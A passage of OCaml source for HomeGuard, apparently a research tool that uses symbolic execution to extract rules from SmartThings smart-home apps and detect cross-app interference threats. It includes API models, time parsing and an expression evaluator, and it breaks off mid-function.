    [updated()], which ships each app's existing configuration; every
    app is vetted against those already processed and kept (the user
    already lives with these apps), and the combined reports tell the
    user which latent threats their home has been carrying. *)
let retrofit home apps_with_bindings =
  List.map
    (fun (app, device_bindings, value_bindings) ->
      let report, _ = begin_install home ~app ~device_bindings ~value_bindings () in
      decide home Homeguard_frontend.Install_flow.Keep;
      report)
    apps_with_bindings
