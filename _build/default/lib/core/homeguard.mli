(** HomeGuard's public facade.

    Offline, {!extract} is the backend rule-extractor service; online, a
    {!home} plays the phone-app role — it receives instrumented-app
    configuration over the messaging channel, detects CAI threats
    against the installed apps and walks the user through the one-time
    decision (paper Fig 6). *)

module Groovy = Homeguard_groovy
module St = Homeguard_st
module Solver = Homeguard_solver
module Rules = Homeguard_rules
module Symexec = Homeguard_symexec
module Detector_lib = Homeguard_detector
module Sim = Homeguard_sim
module Config = Homeguard_config
module Frontend = Homeguard_frontend

val version : string

val extract : ?name:string -> string -> Homeguard_symexec.Extract.result
(** Extract rules from SmartApp source via symbolic execution. *)

type home = {
  recorder : Homeguard_config.Recorder.t;
  flow : Homeguard_frontend.Install_flow.t;
  messaging : Homeguard_config.Messaging.t;
}

val create_home : ?transport_seed:int -> unit -> home

val begin_install :
  home ->
  ?transport:Homeguard_config.Messaging.transport ->
  app:Homeguard_rules.Rule.smartapp ->
  device_bindings:(string * string) list ->
  value_bindings:(string * string) list ->
  unit ->
  Homeguard_frontend.Install_flow.report * float option
(** Ship the configuration URI over the transport, record it (unless the
    message is lost), and detect threats against the installed apps.
    Returns the user-facing report and the observed latency in ms. *)

val decide : home -> Homeguard_frontend.Install_flow.decision -> unit
val installed : home -> Homeguard_rules.Rule.smartapp list

val retrofit :
  home ->
  (Homeguard_rules.Rule.smartapp * (string * string) list * (string * string) list) list ->
  Homeguard_frontend.Install_flow.report list
(** Backward compatibility (paper §VIII-D3): process a pre-HomeGuard
    home by reinstalling each instrumented app with its existing
    configuration; returns the per-app threat reports. *)
