(** Static models of SmartThings platform APIs and object properties.

    The paper models 173 API methods and 94 object-property accesses by
    reviewing the developer documentation (§V-B "API modeling"); this
    module is the OCaml counterpart: pure helpers that map API names and
    property accesses to symbolic values, plus time parsing used by
    scheduling APIs. *)

module Term = Homeguard_solver.Term

(** [attribute_of_current_prop "currentSwitch"] = [Some "switch"] —
    SmartThings synthesises a [currentX] property per attribute [x]. *)
let attribute_of_current_prop name =
  let prefix = "current" in
  let pl = String.length prefix in
  if String.length name > pl && String.sub name 0 pl = prefix then begin
    let rest = String.sub name pl (String.length name - pl) in
    Some (String.uncapitalize_ascii rest)
  end
  else None

(** Parse "HH:mm" (or ISO "yyyy-MM-dd'T'HH:mm:ss") to minutes after
    midnight. Scheduling inputs of type [time] render this way. *)
let minutes_of_time_string s =
  let parse_hm hm =
    match String.split_on_char ':' hm with
    | [ h; m ] -> (
      match (int_of_string_opt h, int_of_string_opt (String.sub m 0 (min 2 (String.length m)))) with
      | Some h, Some m when h >= 0 && h < 24 && m >= 0 && m < 60 -> Some ((h * 60) + m)
      | _ -> None)
    | _ -> None
  in
  match String.index_opt s 'T' with
  | Some i when String.length s > i + 5 -> parse_hm (String.sub s (i + 1) 5)
  | _ -> parse_hm s

(** Parse a Quartz cron expression's fixed minute/hour fields
    ("0 30 18 * * ?" -> 18:30). *)
let minutes_of_cron s =
  match String.split_on_char ' ' (String.trim s) with
  | _seconds :: minute :: hour :: _ -> (
    match (int_of_string_opt minute, int_of_string_opt hour) with
    | Some m, Some h when h >= 0 && h < 24 && m >= 0 && m < 60 -> Some ((h * 60) + m)
    | _ -> None)
  | _ -> None

(** Properties of the [location] object. *)
let location_property name =
  match name with
  | "mode" | "currentMode" -> Some (Term.Var "location.mode")
  | "name" -> Some (Term.Str "home")
  | "id" -> Some (Term.Str "@location-id")
  | "timeZone" -> Some (Term.Str "@tz")
  | "latitude" | "longitude" -> Some (Term.Int 0)
  | _ -> None

(** Zero-argument platform functions returning symbolic time sources. *)
let time_api name =
  match name with
  | "now" -> Some (Term.Var "time.now_ms")
  | "timeToday" | "timeTodayAfter" -> Some (Term.Var "time.today")
  | _ -> None

(** String-returning instance methods that we model as identity or
    constants — receiver-preserving conversions. *)
let is_identity_conversion = function
  | "toInteger" | "toFloat" | "toDouble" | "toBigDecimal" | "toString" | "trim"
  | "toLowerCase" | "toUpperCase" | "intValue" | "floatValue" | "round" ->
    true
  | _ -> false

(** Collection methods whose closure argument we execute once with a
    representative element. *)
let is_collection_iterator = function
  | "each" | "findAll" | "collect" | "find" | "any" | "every" | "eachWithIndex" -> true
  | _ -> false

(** Event-object properties resolving to the event's value. *)
let is_event_value_prop = function
  | "value" | "doubleValue" | "integerValue" | "numericValue" | "numberValue"
  | "floatValue" | "stringValue" ->
    true
  | _ -> false
