(** Rule extraction: SmartApp source → rules, via symbolic execution of
    lifecycle entry points and event handlers (paper §V). *)

module Rule = Homeguard_rules.Rule

type diagnostics = {
  paths_explored : int;
  truncated : bool;  (** some handler exhausted the path budget *)
  unknown_calls : string list;  (** unmodeled APIs encountered *)
}

type result = { app : Rule.smartapp; diags : diagnostics }

exception Extraction_error of string
(** Wraps lexer/parser failures with their location. *)

val scan_inputs : Homeguard_groovy.Ast.program -> Rule.input_decl list
(** All [input] declarations anywhere in the program (also used by the
    instrumentation pass, paper §VII-A). *)

val extract_program : ?name:string -> Homeguard_groovy.Ast.program -> result

val extract_source : ?name:string -> string -> result
(** Parse and extract. [name] overrides the metadata app name. *)
