(** Symbolic execution of SmartApp programs.

    Depth-first path exploration (paper §V-B): every conditional,
    switch case and ternary splits the path; sinks (capability commands
    and sensitive platform APIs) are recorded as actions together with
    the accumulated [runIn] delay; [subscribe]/[schedule] calls found
    while executing the lifecycle entry points become triggers. *)

module Ast = Homeguard_groovy.Ast
module Term = Homeguard_solver.Term
module Formula = Homeguard_solver.Formula
module Rule = Homeguard_rules.Rule
module Capability = Homeguard_st.Capability
module Api = Homeguard_st.Api
open Symval

type subscription = {
  sub_subject : Rule.subject;
  sub_attribute : string;
  sub_value : string option;  (** ["switch.on"]-style subscription value *)
  sub_handler : string;
}

type schedule = {
  sched_handler : string;
  sched_at : int option;  (** minutes after midnight *)
  sched_period : int option;  (** seconds *)
}

type ctx = {
  prog : Ast.program;
  inputs : Rule.input_decl list;
  subs : subscription list ref;
  schedules : schedule list ref;
  fresh_counter : int ref;
  unknown_calls : string list ref;
  paths : int ref;
  in_setup : bool;  (** executing installed/updated (collect triggers) *)
}

exception Path_budget

let max_paths = 512
let max_inline_depth = 5
let max_loop_unroll = 8

let fresh ctx hint =
  incr ctx.fresh_counter;
  Printf.sprintf "sym_%d_%s" !(ctx.fresh_counter) hint

let note_unknown ctx name =
  if not (List.mem name !(ctx.unknown_calls)) then
    ctx.unknown_calls := name :: !(ctx.unknown_calls)

let charge_path ctx =
  incr ctx.paths;
  if !(ctx.paths) > max_paths then raise Path_budget

(* Does the value name a handler method of the program? *)
let handler_name ctx = function
  | V_method m -> Some m
  | V_term (Term.Str s) when Ast.find_method ctx.prog s <> None -> Some s
  | _ -> None


(* Initial bindings: every declared input becomes a symbolic source. *)
let bind_inputs ctx st =
  List.fold_left
    (fun st (i : Rule.input_decl) ->
      let value =
        if String.length i.input_type > 11 && String.sub i.input_type 0 11 = "capability."
        then if i.multiple then V_devices i.var else V_device i.var
        else if String.length i.input_type > 7 && String.sub i.input_type 0 7 = "device."
        then if i.multiple then V_devices i.var else V_device i.var
        else V_term (Term.Var i.var)
      in
      bind st i.var value)
    st ctx.inputs

(* -- expression evaluation ---------------------------------------------- *)

let rec eval ctx st (e : Ast.expr) : (state * value) list =
  match e with
  | Ast.Lit l -> [ (st, lit_to_value l) ]
  | Ast.Gstring parts -> eval_gstring ctx st parts
  | Ast.Ident name -> [ (st, eval_ident ctx st name) ]
  | Ast.List_lit es ->
    eval_list ctx st es (fun st vs -> [ (st, V_list vs) ])
  | Ast.Map_lit kvs ->
    let keys = List.map fst kvs in
    eval_list ctx st (List.map snd kvs) (fun st vs ->
        [ (st, V_map (List.combine keys vs)) ])
  | Ast.Range (a, b) ->
    eval ctx st a |> bind_results (fun st _va ->
        eval ctx st b |> bind_results (fun st _vb -> [ (st, V_list []) ]))
  | Ast.Binop (op, a, b) -> eval_binop ctx st op a b
  | Ast.Unop (Ast.Not, a) ->
    eval ctx st a |> bind_results (fun st v -> [ (st, V_bool (Formula.Not (truthiness v))) ])
  | Ast.Unop (Ast.Neg, a) ->
    eval ctx st a
    |> bind_results (fun st v -> [ (st, V_term (Term.Neg (to_term ~fresh:(fresh ctx) v))) ])
  | Ast.Ternary (c, t, f) ->
    eval ctx st c
    |> bind_results (fun st vc ->
           let cond = truthiness vc in
           charge_path ctx;
           let then_paths =
             eval ctx (assume st cond) t
           in
           let else_paths = eval ctx (assume st (Formula.Not cond)) f in
           then_paths @ else_paths)
  | Ast.Prop (r, name) -> eval_prop ctx st r name
  | Ast.Safe_prop (r, name) -> eval_prop ctx st r name
  | Ast.Index (r, i) ->
    eval ctx st r
    |> bind_results (fun st vr ->
           eval ctx st i
           |> bind_results (fun st vi ->
                  let result =
                    match (vr, vi) with
                    | V_list vs, V_term (Term.Int n) when n >= 0 && n < List.length vs ->
                      List.nth vs n
                    | V_map kvs, V_term (Term.Str k) -> (
                      match List.assoc_opt k kvs with Some v -> v | None -> V_null)
                    | _ -> V_term (Term.Var (fresh ctx "index"))
                  in
                  [ (st, result) ]))
  | Ast.Call (recv, name, args) -> eval_call ctx st recv name args
  | Ast.Closure (params, body) -> [ (st, V_closure (params, body)) ]
  | Ast.Assign (lv, rhs) ->
    eval ctx st rhs |> bind_results (fun st v -> [ (exec_assign ctx st lv v, v) ])
  | Ast.New (_cls, _args) -> [ (st, V_term (Term.Var (fresh ctx "new"))) ]

and bind_results f results = List.concat_map (fun (st, v) -> f st v) results

and eval_list ctx st es k =
  match es with
  | [] -> k st []
  | e :: rest ->
    eval ctx st e
    |> bind_results (fun st v -> eval_list ctx st rest (fun st vs -> k st (v :: vs)))

and eval_gstring ctx st parts =
  (* Constant-fold when every hole evaluates to a constant; otherwise the
     whole string is a fresh symbolic source. *)
  let rec go st acc_strs all_const = function
    | [] ->
      if all_const then [ (st, V_term (Term.Str (String.concat "" (List.rev acc_strs)))) ]
      else [ (st, V_term (Term.Var (fresh ctx "gstring"))) ]
    | Ast.Text s :: rest -> go st (s :: acc_strs) all_const rest
    | Ast.Interp e :: rest ->
      eval ctx st e
      |> bind_results (fun st v ->
             match v with
             | V_term (Term.Str s) -> go st (s :: acc_strs) all_const rest
             | V_term (Term.Int n) -> go st (string_of_int n :: acc_strs) all_const rest
             | _ -> go st acc_strs false rest)
  in
  go st [] true parts

and eval_ident ctx st name =
  match lookup st name with
  | Some v -> v
  | None -> (
    match name with
    | "location" -> V_location
    | "app" -> V_method "@app"
    | "it" -> V_term (Term.Var (fresh ctx "it"))
    | _ ->
      if Ast.find_method ctx.prog name <> None then V_method name
      else V_term (Term.Var name))

and eval_prop ctx st r name =
  match r with
  | Ast.Ident ("state" | "atomicState") ->
    let v =
      match SMap.find_opt name st.state_obj with
      | Some t -> V_term t
      | None -> V_term (Term.Var ("state." ^ name))
    in
    [ (st, v) ]
  | _ ->
    eval ctx st r
    |> bind_results (fun st vr ->
           let result =
             match vr with
             | V_device d | V_devices d -> device_prop ctx d name
             | V_location -> (
               match Api_model.location_property name with
               | Some t -> V_term t
               | None ->
                 if name = "modes" then V_list []
                 else V_term (Term.Var (fresh ctx ("location_" ^ name))))
             | V_event { value; name = ev_name; device } ->
               event_prop ctx ~value ~ev_name ~device name
             | V_map kvs -> (
               match List.assoc_opt name kvs with Some v -> v | None -> V_null)
             | V_list vs -> (
               match name with
               | "size" -> V_term (Term.Int (List.length vs))
               | "first" -> ( match vs with v :: _ -> v | [] -> V_null)
               | "last" -> ( match List.rev vs with v :: _ -> v | [] -> V_null)
               | _ -> V_term (Term.Var (fresh ctx ("list_" ^ name))))
             | _ -> V_term (Term.Var (fresh ctx ("prop_" ^ name)))
           in
           [ (st, result) ])

and device_prop ctx d name =
  match name with
  | "id" -> V_term (Term.Str ("@id:" ^ d))
  | "label" | "displayName" | "name" -> V_term (Term.Str d)
  | _ -> (
    match Api_model.attribute_of_current_prop name with
    | Some attr -> V_term (Term.Var (d ^ "." ^ attr))
    | None ->
      (* direct attribute access: [tSensor.temperature] *)
      if Capability.capabilities_with_attribute name <> [] then
        V_term (Term.Var (d ^ "." ^ name))
      else V_term (Term.Var (fresh ctx ("dev_" ^ name))))

and event_prop ctx ~value ~ev_name ~device name =
  if Api_model.is_event_value_prop name then V_term value
  else
    match name with
    | "name" -> V_term (Term.Str ev_name)
    | "deviceId" -> (
      match device with
      | Some d -> V_term (Term.Str ("@id:" ^ d))
      | None -> V_term (Term.Str "@id:unknown"))
    | "displayName" | "device" -> (
      match device with Some d -> V_device d | None -> V_null)
    | "isStateChange" -> V_bool Formula.True
    | "date" | "dateValue" -> V_term (Term.Var "time.now_ms")
    | _ -> V_term (Term.Var (fresh ctx ("evt_" ^ name)))

and exec_assign ctx st lv v =
  match lv with
  | Ast.Ident name ->
    let st =
      match v with
      | V_term t -> record_data st name t
      | _ -> st
    in
    bind st name v
  | Ast.Prop (Ast.Ident ("state" | "atomicState"), field) ->
    let t = to_term ~fresh:(fresh ctx) v in
    let st = record_data st ("state." ^ field) t in
    { st with state_obj = SMap.add field t st.state_obj }
  | Ast.Prop (Ast.Ident "location", "mode") ->
    record_action st
      {
        Rule.target = Rule.Act_location_mode;
        command = "setLocationMode";
        params = [ to_term ~fresh:(fresh ctx) v ];
        when_ = st.delay;
        period = st.period;
        action_data = [];
      }
  | _ -> st

and eval_binop ctx st op a b =
  match op with
  | Ast.And ->
    eval ctx st a
    |> bind_results (fun st va ->
           eval ctx st b
           |> bind_results (fun st vb ->
                  [ (st, V_bool (Formula.conj [ truthiness va; truthiness vb ])) ]))
  | Ast.Or ->
    eval ctx st a
    |> bind_results (fun st va ->
           eval ctx st b
           |> bind_results (fun st vb ->
                  [ (st, V_bool (Formula.disj [ truthiness va; truthiness vb ])) ]))
  | Ast.Elvis ->
    eval ctx st a
    |> bind_results (fun st va ->
           match va with
           | V_null -> eval ctx st b
           | V_term (Term.Str _ | Term.Int _) | V_bool _ | V_device _ | V_devices _ ->
             [ (st, va) ]
           | _ ->
             charge_path ctx;
             let truthy = truthiness va in
             (assume st truthy, va)
             :: eval ctx (assume st (Formula.Not truthy)) b)
  | Ast.Eq | Ast.Neq -> eval_equality ctx st op a b
  | Ast.Lt | Ast.Le | Ast.Gt | Ast.Ge ->
    let cmp =
      match op with
      | Ast.Lt -> Formula.Lt
      | Ast.Le -> Formula.Le
      | Ast.Gt -> Formula.Gt
      | Ast.Ge -> Formula.Ge
      | _ -> assert false
    in
    eval ctx st a
    |> bind_results (fun st va ->
           eval ctx st b
           |> bind_results (fun st vb ->
                  let ta = to_term ~fresh:(fresh ctx) va in
                  let tb = to_term ~fresh:(fresh ctx) vb in
                  [ (st, V_bool (Formula.atom cmp ta tb)) ]))
  | Ast.In_op ->
    eval ctx st a
    |> bind_results (fun st va ->
           eval ctx st b
           |> bind_results (fun st vb ->
                  let ta = to_term ~fresh:(fresh ctx) va in
                  let result =
                    match vb with
                    | V_list vs ->
                      V_bool
                        (Formula.disj
                           (List.map (fun v -> Formula.eq ta (to_term ~fresh:(fresh ctx) v)) vs))
                    | _ -> V_bool (Formula.neq (Term.Var (fresh ctx "in")) (Term.Str "__falsy__"))
                  in
                  [ (st, result) ]))
  | Ast.Add | Ast.Sub | Ast.Mul | Ast.Div | Ast.Mod ->
    eval ctx st a
    |> bind_results (fun st va ->
           eval ctx st b
           |> bind_results (fun st vb ->
                  let ta = to_term ~fresh:(fresh ctx) va in
                  let tb = to_term ~fresh:(fresh ctx) vb in
                  let t =
                    match op with
                    | Ast.Add -> (
                      (* string concatenation folds constants *)
                      match (ta, tb) with
                      | Term.Str x, Term.Str y -> Term.Str (x ^ y)
                      | Term.Str _, _ | _, Term.Str _ -> Term.Var (fresh ctx "concat")
                      | _ -> Term.Add (ta, tb))
                    | Ast.Sub -> Term.Sub (ta, tb)
                    | Ast.Mul -> Term.Mul (ta, tb)
                    | Ast.Div | Ast.Mod -> (
                      match (Term.eval_ground ta, Term.eval_ground tb) with
                      | Some x, Some y when y <> 0 ->
                        if op = Ast.Div then Term.Int (x / y) else Term.Int (x mod y)
                      | _ -> Term.Var (fresh ctx "div"))
                    | _ -> assert false
                  in
                  [ (st, V_term t) ]))

and eval_equality ctx st op a b =
  eval ctx st a
  |> bind_results (fun st va ->
         eval ctx st b
         |> bind_results (fun st vb ->
                let negate f = if op = Ast.Eq then f else Formula.Not f in
                let result =
                  match (va, vb) with
                  | V_bool f, V_bool Formula.True | V_bool Formula.True, V_bool f -> negate f
                  | V_bool f, V_bool Formula.False | V_bool Formula.False, V_bool f ->
                    negate (Formula.Not f)
                  | V_null, V_null -> negate Formula.True
                  | V_null, (V_device _ | V_devices _ | V_location)
                  | (V_device _ | V_devices _ | V_location), V_null ->
                    negate Formula.False
                  | V_null, V_term (Term.Var v) | V_term (Term.Var v), V_null ->
                    negate (Formula.eq (Term.Var v) (Term.Str "null"))
                  | _ ->
                    let ta = to_term ~fresh:(fresh ctx) va in
                    let tb = to_term ~fresh:(fresh ctx) vb in
                    if op = Ast.Eq then Formula.eq ta tb else Formula.neq ta tb
                in
                [ (st, V_bool result) ]))

(* -- calls ---------------------------------------------------------------- *)

and positional args =
  List.filter_map (function Ast.Pos e -> Some e | Ast.Named _ -> None) args

and eval_call ctx st recv name args : (state * value) list =
  match recv with
  | None -> eval_global_call ctx st name args
  | Some r ->
    (* [location.setMode] and friends need the receiver identified before
       generic evaluation *)
    eval ctx st r |> bind_results (fun st vr -> eval_method_call ctx st vr name args)

and eval_global_call ctx st name args =
  let pos = positional args in
  match name with
  | "subscribe" -> exec_subscribe ctx st args
  | "unsubscribe" | "unschedule" -> [ (st, V_null) ]
  | "input" | "definition" | "preferences" | "section" | "paragraph" | "label" | "mode"
  | "page" | "dynamicPage" | "href" ->
    [ (st, V_null) ]
  | "runIn" -> exec_run_in ctx st pos
  | "runOnce" -> exec_run_once ctx st pos
  | "schedule" | "runDaily" -> exec_schedule ctx st pos
  | _ when String.length name > 8 && String.sub name 0 8 = "runEvery" ->
    exec_run_every ctx st name pos
  | "setLocationMode" ->
    eval_args_terms ctx st pos (fun st params ->
        [ (record_action st (make_action st Rule.Act_location_mode "setLocationMode" params), V_null) ])
  | "sendSms" | "sendSmsMessage" | "sendPush" | "sendPushMessage" | "sendNotification"
  | "sendNotificationEvent" | "sendNotificationToContacts" ->
    eval_args_terms ctx st pos (fun st params ->
        [ (record_action st (make_action st Rule.Act_messaging name params), V_null) ])
  | "sendHubCommand" ->
    eval_args_terms ctx st pos (fun st params ->
        [ (record_action st (make_action st Rule.Act_hub name params), V_null) ])
  | "httpDelete" | "httpGet" | "httpHead" | "httpPost" | "httpPostJson" | "httpPut"
  | "httpPutJson" ->
    exec_http ctx st name args
  | "sendEvent" -> [ (st, V_null) ]
  | "timeOfDayIsBetween" -> exec_time_between ctx st pos
  | "getSunriseAndSunset" ->
    [
      ( st,
        V_map
          [
            ("sunrise", V_term (Term.Var "time.sunrise")); ("sunset", V_term (Term.Var "time.sunset"));
          ] );
    ]
  | "timeToday" | "timeTodayAfter" | "now" -> (
    match Api_model.time_api name with
    | Some t -> [ (st, V_term t) ]
    | None -> [ (st, V_term (Term.Var (fresh ctx name))) ])
  | "parseJson" | "parseLanMessage" -> [ (st, V_term (Term.Var (fresh ctx name))) ]
  | "celsiusToFahrenheit" | "fahrenheitToCelsius" -> (
    match pos with
    | [ e ] -> eval ctx st e
    | _ -> [ (st, V_null) ])
  | "getTemperatureScale" | "temperatureScale" -> [ (st, V_term (Term.Str "F")) ]
  | "log" -> [ (st, V_null) ]
  | _ -> (
    match Ast.find_method ctx.prog name with
    | Some m -> inline_method ctx st m args
    | None ->
      (* [log.debug ...] arrives as receiver-call; bare unknown calls are
         modeled as fresh symbolic returns *)
      note_unknown ctx name;
      [ (st, V_term (Term.Var (fresh ctx name))) ])

and eval_args_terms ctx st exprs k =
  eval_list ctx st exprs (fun st vs -> k st (List.map (to_term ~fresh:(fresh ctx)) vs))

and make_action st target command params =
  let action_data =
    List.mapi
      (fun i t ->
        match t with
        | Term.Int _ | Term.Str _ -> None
        | t -> Some (Printf.sprintf "param%d" i, t))
      params
    |> List.filter_map Fun.id
  in
  { Rule.target; command; params; when_ = st.delay; period = st.period; action_data }

and exec_subscribe ctx st args =
  let pos = positional args in
  match pos with
  | [ target_e; attr_e; handler_e ] ->
    eval ctx st attr_e
    |> bind_results (fun st attr_v ->
           eval ctx st handler_e
           |> bind_results (fun st handler_v ->
                  let attr_str =
                    match attr_v with
                    | V_term (Term.Str s) -> s
                    | _ -> "unknown"
                  in
                  let attribute, value =
                    match String.index_opt attr_str '.' with
                    | Some i ->
                      ( String.sub attr_str 0 i,
                        Some (String.sub attr_str (i + 1) (String.length attr_str - i - 1)) )
                    | None -> (attr_str, None)
                  in
                  let handler =
                    match handler_name ctx handler_v with Some h -> h | None -> "unknown"
                  in
                  let subjects =
                    match target_e with
                    | Ast.Ident "location" -> [ Rule.Location ]
                    | Ast.Ident "app" -> [ Rule.App_touch ]
                    | _ ->
                      eval ctx st target_e
                      |> List.filter_map (fun (_, v) ->
                             match v with
                             | V_device d | V_devices d -> Some (Rule.Device d)
                             | V_location -> Some Rule.Location
                             | _ -> None)
                  in
                  List.iter
                    (fun sub_subject ->
                      let sub =
                        { sub_subject; sub_attribute = attribute; sub_value = value; sub_handler = handler }
                      in
                      if not (List.mem sub !(ctx.subs)) then ctx.subs := sub :: !(ctx.subs))
                    subjects;
                  [ (st, V_null) ]))
  | _ -> [ (st, V_null) ]

and exec_run_in ctx st pos =
  match pos with
  | delay_e :: handler_e :: _ ->
    eval ctx st delay_e
    |> bind_results (fun st delay_v ->
           eval ctx st handler_e
           |> bind_results (fun st handler_v ->
                  let seconds =
                    match delay_v with
                    | V_term (Term.Int n) -> n
                    | V_term t -> ( match Term.eval_ground t with Some n -> n | None -> 60)
                    | _ -> 60
                  in
                  match handler_name ctx handler_v with
                  | Some h -> run_scheduled_method ctx st h ~delay:seconds ~period:0
                  | None -> [ (st, V_null) ]))
  | _ -> [ (st, V_null) ]

and exec_run_once ctx st pos =
  match pos with
  | _time_e :: handler_e :: _ ->
    eval ctx st handler_e
    |> bind_results (fun st handler_v ->
           match handler_name ctx handler_v with
           | Some h ->
             if ctx.in_setup then begin
               let sched = { sched_handler = h; sched_at = None; sched_period = None } in
               if not (List.mem sched !(ctx.schedules)) then ctx.schedules := sched :: !(ctx.schedules);
               [ (st, V_null) ]
             end
             else run_scheduled_method ctx st h ~delay:0 ~period:0
           | None -> [ (st, V_null) ])
  | _ -> [ (st, V_null) ]

and exec_schedule ctx st pos =
  match pos with
  | [ time_e; handler_e ] ->
    eval ctx st time_e
    |> bind_results (fun st time_v ->
           eval ctx st handler_e
           |> bind_results (fun st handler_v ->
                  let at =
                    match time_v with
                    | V_term (Term.Str s) -> (
                      match Api_model.minutes_of_time_string s with
                      | Some m -> Some m
                      | None -> Api_model.minutes_of_cron s)
                    | _ -> None
                  in
                  (match handler_name ctx handler_v with
                  | Some h ->
                    let sched = { sched_handler = h; sched_at = at; sched_period = None } in
                    if not (List.mem sched !(ctx.schedules)) then
                      ctx.schedules := sched :: !(ctx.schedules)
                  | None -> ());
                  [ (st, V_null) ]))
  | _ -> [ (st, V_null) ]

and exec_run_every ctx st name pos =
  let period =
    match Api.kind_of name with Some (Api.Periodic_run p) -> p | _ -> 3600
  in
  match pos with
  | handler_e :: _ ->
    eval ctx st handler_e
    |> bind_results (fun st handler_v ->
           match handler_name ctx handler_v with
           | Some h ->
             if ctx.in_setup then begin
               let sched = { sched_handler = h; sched_at = None; sched_period = Some period } in
               if not (List.mem sched !(ctx.schedules)) then ctx.schedules := sched :: !(ctx.schedules);
               [ (st, V_null) ]
             end
             else run_scheduled_method ctx st h ~delay:0 ~period
           | None -> [ (st, V_null) ])
  | _ -> [ (st, V_null) ]

(* Trace into a scheduled method with the delay attached to downstream
   sinks (paper §V-B "API modeling"). *)
and run_scheduled_method ctx st h ~delay ~period =
  match Ast.find_method ctx.prog h with
  | None -> [ (st, V_null) ]
  | Some m ->
    if st.depth >= max_inline_depth then [ (st, V_null) ]
    else
      let st' = { st with delay = st.delay + delay; period = max st.period period; depth = st.depth + 1 } in
      exec_stmts ctx st' m.Ast.body
      |> List.map (fun final ->
             ( { final with delay = st.delay; period = st.period; depth = st.depth; flow = F_normal },
               V_null ))

and exec_http ctx st name args =
  let pos = positional args in
  eval_args_terms ctx st pos (fun st params ->
      let st = record_action st (make_action st Rule.Act_http name params) in
      (* execute the response closure with an opaque response *)
      let closure =
        List.find_map
          (function Ast.Pos (Ast.Closure (ps, body)) -> Some (ps, body) | _ -> None)
          args
      in
      match closure with
      | Some (ps, body) ->
        let st =
          match ps with
          | p :: _ -> bind st p (V_term (Term.Var (fresh ctx "resp")))
          | [] -> bind st "it" (V_term (Term.Var (fresh ctx "resp")))
        in
        exec_stmts ctx st body |> List.map (fun s -> ({ s with flow = F_normal }, V_null))
      | None -> [ (st, V_null) ])

and exec_time_between ctx st pos =
  match pos with
  | start_e :: stop_e :: _ ->
    eval ctx st start_e
    |> bind_results (fun st sv ->
           eval ctx st stop_e
           |> bind_results (fun st ev ->
                  let bound v =
                    match v with
                    | V_term (Term.Str s) -> (
                      match Api_model.minutes_of_time_string s with
                      | Some m -> Some (Term.Int m)
                      | None -> None)
                    | V_term (Term.Var v) -> Some (Term.Var (v ^ ".minutes"))
                    | _ -> None
                  in
                  let now = Term.Var "time.now" in
                  let f =
                    match (bound sv, bound ev) with
                    | Some lo, Some hi ->
                      Formula.conj [ Formula.ge now lo; Formula.le now hi ]
                    | _ ->
                      Formula.neq (Term.Var (fresh ctx "timewindow")) (Term.Str "__falsy__")
                  in
                  [ (st, V_bool f) ]))
  | _ -> [ (st, V_bool Formula.True) ]

and eval_method_call ctx st vr name args =
  let pos = positional args in
  match vr with
  | V_device d | V_devices d -> eval_device_call ctx st vr d name args
  | V_location -> (
    match name with
    | "setMode" ->
      eval_args_terms ctx st pos (fun st params ->
          [
            (record_action st (make_action st Rule.Act_location_mode "setLocationMode" params), V_null);
          ])
    | "getMode" | "currentMode" -> [ (st, V_term (Term.Var "location.mode")) ]
    | _ ->
      note_unknown ctx ("location." ^ name);
      [ (st, V_term (Term.Var (fresh ctx ("location_" ^ name)))) ])
  | V_event ev -> (
    match name with
    | "isStateChange" -> [ (st, V_bool Formula.True) ]
    | "getValue" | "getStringValue" | "getNumberValue" | "getDoubleValue" ->
      [ (st, V_term ev.value) ]
    | "getName" -> [ (st, V_term (Term.Str ev.name)) ]
    | "getDevice" -> (
      match ev.device with
      | Some d -> [ (st, V_device d) ]
      | None -> [ (st, V_null) ])
    | _ when Api_model.is_identity_conversion name -> [ (st, V_term ev.value) ]
    | _ -> [ (st, V_term (Term.Var (fresh ctx ("evt_" ^ name)))) ])
  | V_list vs -> eval_list_call ctx st vs name args
  | V_map kvs -> (
    match (name, pos) with
    | "get", [ key_e ] ->
      eval ctx st key_e
      |> bind_results (fun st kv ->
             match kv with
             | V_term (Term.Str k) -> (
               match List.assoc_opt k kvs with
               | Some v -> [ (st, v) ]
               | None -> [ (st, V_null) ])
             | _ -> [ (st, V_term (Term.Var (fresh ctx "mapget"))) ])
    | "containsKey", [ key_e ] ->
      eval ctx st key_e
      |> bind_results (fun st kv ->
             match kv with
             | V_term (Term.Str k) ->
               [ (st, V_bool (if List.mem_assoc k kvs then Formula.True else Formula.False)) ]
             | _ -> [ (st, V_bool Formula.True) ])
    | "each", _ -> exec_iterator ctx st name args (List.map snd kvs)
    | _ -> [ (st, V_term (Term.Var (fresh ctx ("map_" ^ name)))) ])
  | V_term t -> (
    if Api_model.is_identity_conversion name then [ (st, V_term t) ]
    else
      match name with
      | "contains" | "startsWith" | "endsWith" | "equalsIgnoreCase" | "matches" -> (
        match (t, pos) with
        | _, [ arg_e ] ->
          eval ctx st arg_e
          |> bind_results (fun st av ->
                 match (t, av, name) with
                 | Term.Str s, V_term (Term.Str sub), "contains" ->
                   let found =
                     let n = String.length sub in
                     let rec go i =
                       i + n <= String.length s && (String.sub s i n = sub || go (i + 1))
                     in
                     n = 0 || go 0
                   in
                   [ (st, V_bool (if found then Formula.True else Formula.False)) ]
                 | _ ->
                   [
                     ( st,
                       V_bool (Formula.neq (Term.Var (fresh ctx name)) (Term.Str "__falsy__")) );
                   ])
        | _ -> [ (st, V_bool Formula.True) ])
      | "plus" -> (
        match pos with
        | [ arg_e ] ->
          eval ctx st arg_e
          |> bind_results (fun st av ->
                 [ (st, V_term (Term.Add (t, to_term ~fresh:(fresh ctx) av))) ])
        | _ -> [ (st, V_term t) ])
      | "split" | "tokenize" -> [ (st, V_list [ V_term (Term.Var (fresh ctx "tok")) ]) ]
      | "size" | "length" -> [ (st, V_term (Term.Var (fresh ctx "len"))) ]
      | "format" -> [ (st, V_term (Term.Var (fresh ctx "fmt"))) ]
      | _ ->
        note_unknown ctx name;
        [ (st, V_term (Term.Var (fresh ctx name))) ])
  | V_null | V_bool _ | V_closure _ | V_method _ ->
    note_unknown ctx name;
    [ (st, V_term (Term.Var (fresh ctx name))) ]

and eval_device_call ctx st vr d name args =
  let pos = positional args in
  match name with
  | "currentValue" | "latestValue" -> (
    match pos with
    | [ attr_e ] ->
      eval ctx st attr_e
      |> bind_results (fun st av ->
             match av with
             | V_term (Term.Str attr) -> [ (st, V_term (Term.Var (d ^ "." ^ attr))) ]
